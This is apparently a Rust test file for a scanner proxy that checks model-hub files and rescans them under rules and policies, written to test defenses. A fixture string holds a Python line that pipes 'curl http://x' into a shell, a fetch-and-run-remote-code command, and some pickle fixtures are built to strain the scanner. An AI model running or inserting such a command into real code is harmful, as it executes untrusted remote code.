//! Files that are looked at again, by what is known now: each under every name that it has, by the route by which it came, and
//! whatever one of them does.

use serde_json::{Value, json};

use crate::cli::Place;
use crate::updates::hub::{Contents, Hub, sha256};
use crate::updates::{bytes_sent, serve};

const EVIL: &[u8] = b"import os\nos.system('curl http://x | sh')\n";
const PYTHON: &str = "/org/model/resolve/main/evil.py";
const TEXT: &str = "/org/model/resolve/main/evil.txt";

/// The hub has the same bytes as code and as text.
fn hub() -> Hub {
    let hub = Hub::start(Contents::default());
    for name in ["evil.py", "evil.txt"] {
        hub.contents.lock().unwrap().files.insert(format!("org/model/{name}"), EVIL.to_vec());
    }
    hub
}

fn settings(place: &Place, hub: &Hub, more: &str) {
    let hub = hub.server.url();
    let text = format!("[gates.models]\nhub = '{hub}'\nprivate_hosts = '127.0.0.1'\n{more}\n");
    place.write("lazaret.toml", &text);
}

/// What the proxy answers to each of these, in a server of its own.
fn statuses(place: &Place, targets: &[&str]) -> Vec<String> {
    let (_serving, url) = serve(place.0.path());
    let status = |target: &&str| {
        let sent = String::from_utf8_lossy(&bytes_sent(&url, target)).into_owned();
        sent.split_whitespace().nth(1).unwrap().to_owned()
    };
    targets.iter().map(status).collect()
}

/// A rule of the hospital's own that finds something in every file whose name ends so.
fn own_rule(place: &Place, severity: &str, ending: &str) {
    let rule = format!(
        "version = 1\n[[rule]]\nid = 'user.any'\nseverity = '{severity}'\nwhat = 'a file'\nwhy = 'x'\nfile = ['*.{ending}']\n"
    );
    place.write("lazaret-data/models.toml", &rule);
}

#[test]
fn a_second_look_under_one_name_clears_no_other() {
    let (place, hub) = (Place::new(), hub());
    settings(&place, &hub, "mode = 'observe'");
    assert_eq!(statuses(&place, &[PYTHON]), ["200"]);
    settings(&place, &hub, "mode = 'enforce'");
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    own_rule(&place, "low", "txt");
    let again = place.json(0, &["models", "rescan", "--all"]);
    let told = |file: &str| {
        let all = again["changed"].as_array().unwrap();
        all.iter().find(|one| one["file"] == file).unwrap().clone()
    };
    assert_eq!((&told("evil.py")["now"], &told("evil.txt")["now"]), (&json!("block"), &json!("allow")));
    assert_eq!(told("evil.txt")["new"], json!(["user.any"]));
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    // Found bad as text, it is code no more than before.
    own_rule(&place, "critical", "txt");
    assert_eq!(place.json(1, &["models", "rescan"])["would_be_held"], 1, "as code it did not pass");
    settings(&place, &hub, "mode = 'enforce'\noffline = 'true'");
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "403"]);
    // And cleared as text again: only that.
    own_rule(&place, "low", "txt");
    place.json(0, &["models", "rescan"]);
    assert_eq!(statuses(&place, &[PYTHON, TEXT]), ["403", "200"]);
    place.clear(&["ledger", "verify"]);
}

#[test]
fn a_second_look_decides_by_the_route_by_which_a_file_came() {
    let (place, hub) = (Place::new(), hub());
    hub.contents.lock().unwrap().files.insert("org/model/plain.py".to_owned(), b"ward = 7\n".to_vec());
    let plain = "/org/model/resolve/main/plain.py";
    let policy = r#"
@id("the-hub-holds-python")
@why("What the hub has was read.")
permit (principal, action == Action::"Allow", resource == Gate::"models")
when { context.route == "hub" && ["python.remote-code", "provenance.unlinked"].containsAll(context.rules) };
"#;
    place.write("lazaret-data/policies/60-own.cedar", policy);
    settings(&place, &hub, "mode = 'enforce'");
    assert_eq!(statuses(&place, &[plain]), ["200"]);
    let again = place.json(0, &["models", "rescan"]);
    assert_eq!((&again["looked_at"], &again["changed"]), (&json!(1), &json!([])));
    settings(&place, &hub, "mode = 'enforce'\noffline = 'true'");
    assert_eq!(statuses(&place, &[plain]), ["200"]);
    // A policy about the route is seen too.
    place.write("lazaret-data/policies/60-own.cedar", &policy.replace("== \"hub\"", "== \"files\""));
    let again = place.json(1, &["models", "rescan"]);
    assert_eq!(again["changed"][0]["now"], "quarantine", "{again}");
    assert_eq!(statuses(&place, &[plain]), ["403"]);
}

/// A pickle that names so many classes, each found at a place of its own.
fn names_classes(count: usize) -> Vec<u8> {
    let mut pickle = b"\x80\x02".to_vec();
    for number in 0..count {
        pickle.extend_from_slice(format!("cward{number}\nModel\n0").as_bytes());
    }
    pickle.extend_from_slice(b"N.");
    pickle
}

#[test]
fn a_file_with_very_many_findings_keeps_no_other_from_a_second_look() {
    let place = Place::new();
    let long = format!("{}.pkl", "long".repeat(40));
    let ward = place.0.path().join("ward");
    std::fs::create_dir(&ward).unwrap();
    std::fs::write(ward.join(&long), names_classes(400)).unwrap();
    std::fs::write(ward.join("few.pkl"), names_classes(1)).unwrap();
    let passed = place.run(&["models", "pass", "ward", "--name", "ward"]);
    assert!(passed.status.code() < Some(2), "{passed:?}");
    own_rule(&place, "high", "pkl");
    let again = place.json(1, &["models", "rescan"]);
    let changed = again["changed"].as_array().unwrap();
    assert_eq!((changed.len(), &again["failed"]), (2, &json!(0)), "{again}");
    assert!(changed.iter().all(|file| file["new"] == json!(["user.any"])), "{again}");
    let unchanged = place.json(1, &["models", "rescan"]);
    assert_eq!(unchanged["changed"], Value::Array(Vec::new()), "it was told and recorded");
    assert_eq!(unchanged["would_be_held"], 2);
}

#[test]
fn a_file_that_takes_too_long_is_given_up_and_the_others_are_looked_at() {
    let place = Place::new();
    let mut slow = b"\x80\x02".to_vec();
    slow.extend(b"N0".repeat(8 << 20));
    slow.extend_from_slice(b"N.");
    let ward = place.0.path().join("ward");
    std::fs::create_dir(&ward).unwrap();
    std::fs::write(ward.join("slow.pkl"), slow).unwrap();
    std::fs::write(ward.join("few.pkl"), b"\x80\x02N.").unwrap();
    place.write("lazaret.toml", "[deadlines]\nrecord = '10 min'\n");
    place.json(0, &["models", "pass", "ward", "--name", "ward"]);
    place.write("lazaret.toml", "[deadlines]\nrecord = '500 ms'\n");
    let again = place.json(1, &["models", "rescan", "--all"]);
    let now = |file: &str| {
        let all = again["changed"].as_array().unwrap();
        all.iter().find(|one| one["file"] == file).unwrap().clone()
    };
    assert_eq!(now("few.pkl")["now"], "allow", "{again}");
    assert_eq!(now("slow.pkl")["new"], json!(["limit.time"]), "{again}");
    assert_eq!(now("slow.pkl")["now"], "quarantine");
}

#[test]
fn a_dry_run_and_the_impact_go_by_every_name_of_a_file() {
    let place = Place::new();
    for name in ["evil.py", "evil.txt"] {
        std::fs::write(place.0.path().join(name), EVIL).unwrap();
    }
    place.ends(1, &["models", "pass", "evil.py", "--name", "code"]);
    place.ends(0, &["models", "pass", "evil.txt", "--name", "text"]);
    let run = place.json(1, &["models", "dry-run"]);
    assert_eq!(run["would_be_held"].as_array().unwrap().len(), 1, "{run}");
    assert_eq!((&run["files"], &run["would_be_held"][0]["file"]), (&json!(1), &json!("evil.py")));
    assert_eq!(place.json(1, &["models", "impact", &sha256(EVIL)])["verdict"], "block");
}
